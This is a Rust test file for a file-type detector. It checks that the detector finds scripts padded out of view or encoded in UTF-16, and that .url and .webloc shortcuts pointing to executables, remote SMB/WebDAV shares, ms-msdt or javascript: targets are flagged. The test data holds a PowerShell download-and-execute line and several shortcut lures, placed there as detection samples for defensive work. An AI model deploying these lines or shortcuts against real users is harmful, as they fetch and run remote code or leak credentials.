//! Scripts and shortcuts that hide, and texts that only look like them.

use super::samples::utf16;
use super::{Sample, ids, kinds};
use crate::facts::Class;

const VBS: &str =
    "On Error Resume Next\r\nSet a = CreateObject(\"WScript.Shell\")\r\na.Run \"calc\"\r\n";

#[test]
fn a_script_behind_padding_is_found() {
    let comments = "' tài liệu tham khảo, không sửa\r\n".repeat(600);
    let blanks = "\r\n".repeat(15_000);
    for (padding, code, expected) in [
        (comments.as_str(), VBS, "script-vbs"),
        (&blanks, VBS, "script-vbs"),
        (
            &"rem x\r\n".repeat(2000),
            "@echo off\r\nstart a.exe\r\n",
            "script-bat",
        ),
        (
            &"// x\n".repeat(3000),
            "var s = new ActiveXObject('WScript.Shell'); s.Run('a');",
            "script-js",
        ),
        (
            &"# x\n".repeat(3000),
            "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
            "script-ps1",
        ),
        (
            &"; x\r\n".repeat(3000),
            "[AutoRun]\r\nopen=a.exe\r\n",
            "inf",
        ),
        (
            "dim a\r\n",
            "x = 1\r\n#@~^XAAAAA==jY~W8L^#~@",
            "script-encoded",
        ),
    ] {
        let text = format!("{padding}{code}");
        for name in ["bao-cao.pdf", "bao-cao.doc", "", "anh.jpg"] {
            assert_eq!(shown(text.as_bytes(), &[name]), [expected], "{name:?}");
        }
        assert_eq!(shown(&utf16(&text), &["bao-cao.doc"]), [expected]);
        assert_eq!(shown(&big_endian(&text), &["bao-cao.doc"]), [expected]);
        // What opens in an editor, and the text of a letter, quote it.
        assert_eq!(shown(text.as_bytes(), &["ghi-chu.txt"]), ["text"]);
        let body = Sample {
            body: true,
            ..Sample::of(text.as_bytes(), &[])
        };
        assert_eq!(kinds(&body)[0].id, "text");
    }
    let page = format!(
        "<html>{}<HTA:APPLICATION ID='a'></html>",
        "<!-- x -->\n".repeat(1000)
    );
    assert_eq!(shown(page.as_bytes(), &["cong-van.doc"]), ["hta"]);
    assert_eq!(shown(page.as_bytes(), &["tin.html"]), ["html"]);
    // Behind 64 KiB nobody looks: the bound is what keeps it cheap.
    let far = format!("{}{VBS}", "' x\r\n".repeat(14_000));
    assert_eq!(shown(far.as_bytes(), &["a.doc"]), ["text"]);
}

#[test]
fn scripts_in_utf_16_are_read() {
    for text in [VBS, "@echo off\r\ncd %~dp0\r\n", "#!/bin/sh\nid\n"] {
        let plain = shown(text.as_bytes(), &["a.dat"]);
        assert_eq!(shown(&utf16(text), &["a.dat"]), plain);
        assert_eq!(shown(&big_endian(text), &["a.dat"]), plain);
        let bare: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(shown(&bare, &["a.dat"]), plain, "without a mark");
        let marked = [b"\xef\xbb\xbf", text.as_bytes()].concat();
        assert_eq!(shown(&marked, &["a.dat"]), plain);
    }
}

#[test]
fn words_that_stand_far_apart_are_no_script() {
    // Each word of a language once, a page of text between them: a manual.
    let page = "Mục này mô tả một lệnh của hệ thống.\n".repeat(150);
    let manual = [
        "CreateObject(",
        "On Error Resume Next",
        "Option Explicit",
        "End Sub",
        "ExecuteGlobal",
    ]
    .join(&page);
    assert_eq!(shown(manual.as_bytes(), &["huong-dan"]), ["text"]);
}

#[test]
fn what_offices_send_as_text_is_text() {
    let source = "#include <stdio.h>\nint main(void) { return system(\"calc\"); }\n";
    let minified = "var a=function(){return eval(b)};String.fromCharCode(1);".repeat(40);
    let page = format!("<!DOCTYPE html><html><head><script>{minified}</script></head></html>");
    let long_page = format!("{page}{}", "<p>Bản tin</p>\n".repeat(2000));
    let patch = "--- a/run.bat\n+++ b/run.bat\n@@ -1 +1,2 @@\n+@echo off\n+start a.exe\n+exit /b\n";
    let latex = "\\documentclass{article}\n\\begin{document}\n\\verb|@echo off| %~dp0\n";
    for (text, name, expected) in [
        (source, "main.c", "text"),
        (source, "ma-nguon", "text"),
        ("id;ten;lenh\n1;An;@echo off\n", "bang.csv", "text"),
        (
            "{\"run\": \"powershell -enc\", \"shell\": \"%TEMP%\"}",
            "cau-hinh.json",
            "text",
        ),
        (
            "{\"run\": \"powershell -enc\", \"shell\": \"%TEMP%\"}",
            "",
            "text",
        ),
        (
            "2026-01-05 08:00:00 ERROR powershell.exe exited with 1 in %TEMP%\n",
            "app.log",
            "text",
        ),
        ("2026-01-05 08:00:00 taskkill /f a.exe\n", "nhat-ky", "text"),
        (&page, "bao-cao.html", "html"),
        (&page, "", "html"),
        (&long_page, "ban-tin.htm", "html"),
        (&long_page, "", "html"),
        (patch, "va-loi.diff", "text"),
        (patch, "va-loi", "text"),
        (latex, "luan-van.tex", "text"),
        (latex, "luan-van", "text"),
        ("<?xml version='1.0'?><a>CreateObject(</a>", "a.xml", "xml"),
        ("<?xml version='1.0'?><HDon><TTChung/></HDon>", "", "xml"),
        (
            "Attribute VB_Name = \"A\"\nOn Error Resume Next\nCreateObject(\"x\")\n",
            "Module1.bas",
            "text",
        ),
        (
            "use strict là một chỉ thị.\nimport os trong Python\n",
            "ghi-chu",
            "text",
        ),
        (
            "# Cài đặt\n\nChạy:\n\n    powershell -File a.ps1\n    exit /b\n",
            "README",
            "text",
        ),
        ("[Section]\nopen=1\n", "a.ini", "text"),
        ("<?php echo 1;", "vi-du.txt", "text"),
        (
            "From: a@example.com\nTo: b@example.com\nSubject: x\n\nĐầu thư dán lại\n",
            "dau-thu.txt",
            "eml",
        ),
    ] {
        assert_eq!(
            shown(text.as_bytes(), &[name]),
            [expected],
            "{name}: {text:.60}"
        );
    }
}

#[test]
fn a_file_with_two_names_is_a_script_where_one_of_them_runs_it() {
    // The local and the central header of a ZIP disagree.
    for (names, kind) in [
        (["ghi-chu.txt", "mo-tep.vbs"], "script-vbs"),
        (["setup.vbs", "ghi-chu.txt"], "script-vbs"),
        (["ghi-chu.txt", "ghi-chu.md"], "text"),
        (["ghi-chu.txt", "README"], "text"),
    ] {
        assert_eq!(shown(VBS.as_bytes(), &names), [kind], "{names:?}");
    }
    // Words alone are no script, whatever the second name; by Windows' names they are.
    let note = "Kinh gui phong TC-HC\r\n".as_bytes();
    assert_eq!(shown(note, &["a.txt", "a.doc"]), ["text"]);
}

#[test]
fn a_shortcut_is_judged_by_where_it_leads() {
    let url = |line: &str| format!("[InternetShortcut]\r\n{line}\r\n");
    for target in [
        "URL=file://203.0.113.9/share/a.exe",
        "URL=file:///C:/Windows/System32/calc.exe",
        "URL=\\\\203.0.113.9\\share\\a.lnk",
        "URL=C:\\Windows\\System32\\calc.exe",
        "url = search-ms:query=a&crumb=location:\\\\203.0.113.9",
        "URL=ms-msdt:/id x",
        "URL=javascript:alert(1)",
        "URL=\"file://x/a\"",
        "URL=https://daknong.gov.vn\r\nIconFile=\\\\203.0.113.9\\icon.ico",
        "URL=https://daknong.gov.vn\r\nIconFile=file://203.0.113.9/icon.ico",
        "URL=https://daknong.gov.vn\r\nWorkingDirectory=\\\\203.0.113.9@80\\dav",
    ] {
        let text = url(target);
        assert_eq!(
            shown(text.as_bytes(), &["a.url"]),
            ["url-launcher"],
            "{target}"
        );
        assert_eq!(shown(&utf16(&text), &[]), ["url-launcher"], "{target}");
        assert_eq!(
            shown(text.as_bytes(), &["a.txt"]),
            ["url-shortcut"],
            "{target}"
        );
    }
    for target in [
        "URL=https://daknong.gov.vn/van-ban?so=1",
        "URL=http://example.com\r\nIconFile=C:\\Users\\a\\favicon.ico\r\nIconIndex=1",
        "URL=https://example.com\r\nIconFile=https://example.com/favicon.ico",
        "URL=https://example.com\r\nIconFile=file:///C:/a.ico",
        "URL=mailto:vanthu@daknong.gov.vn",
        "URL=www.daknong.gov.vn",
        "URL=",
        "",
    ] {
        let text = url(target);
        assert_eq!(
            shown(text.as_bytes(), &["a.url"]),
            ["url-shortcut"],
            "{target}"
        );
    }
    let plist = |to: &str| {
        format!(
            "<?xml version=\"1.0\"?><!DOCTYPE plist><plist><dict><key>URL</key><string>{to}</string></dict></plist>"
        )
    };
    let page = plist("https://daknong.gov.vn");
    assert_eq!(shown(page.as_bytes(), &["a.webloc"]), ["url-shortcut"]);
    assert_eq!(shown(page.as_bytes(), &["Info.plist"]), ["xml"]);
    let program = plist("file:///Applications/Calculator.app");
    assert_eq!(shown(program.as_bytes(), &["a.webloc"]), ["url-launcher"]);
    let binary = b"bplist00\xd1\x01\x02SURL_\x10\x16https://daknong.gov.vn\x08";
    assert_eq!(shown(binary, &["a.webloc"]), ["url-shortcut"]);
    let binary = b"bplist00\xd1\x01\x02SURL_\x10\x16file:///bin/sh\x08";
    assert_eq!(shown(binary, &["a.webloc"]), ["url-launcher"]);
}

#[test]
fn texts_of_any_sort_stay_cheap() {
    // The heaviest word of all, as often as it fits: each counts once in its window.
    for word in [
        "iex(",
        "#@~^",
        "\ndim ",
        "' \n",
        "url=\n",
        "rem \r\n",
        "createobject(iex(",
    ] {
        let text = word.repeat((200 << 10) / word.len());
        let started = std::time::Instant::now();
        let found = shown(text.as_bytes(), &["a.doc"]);
        assert!(found.len() <= 1, "{word:?}: {found:?}");
        let most = std::time::Duration::from_secs(2);
        assert!(
            started.elapsed() < most,
            "{word:?}: {:?}",
            started.elapsed()
        );
    }
    assert!(
        ids(&[b'#'; 4096], &["a.dat"]).iter().all(|id| {
            crate::facts::Kind::by_id(id).is_some_and(|kind| kind.class == Class::Text)
        })
    );
}

fn big_endian(text: &str) -> Vec<u8> {
    [0xfeff]
        .into_iter()
        .chain(text.encode_utf16())
        .flat_map(u16::to_be_bytes)
        .collect()
}

/// As the spool gives it: first 4 KiB, last 1 KiB, the rest on demand.
fn shown(bytes: &[u8], names: &[&str]) -> Vec<&'static str> {
    let names: Vec<&str> = names
        .iter()
        .copied()
        .filter(|name| !name.is_empty())
        .collect();
    let read = |at: u64, len: usize| {
        bytes
            .get(at as usize..at as usize + len)
            .map(<[u8]>::to_vec)
    };
    let sample = Sample {
        head: &bytes[..bytes.len().min(4096)],
        tail: &bytes[bytes.len().saturating_sub(1024)..],
        reader: Some(&read),
        ..Sample::of(bytes, &names)
    };
    kinds(&sample).iter().map(|kind| kind.id).collect()
}
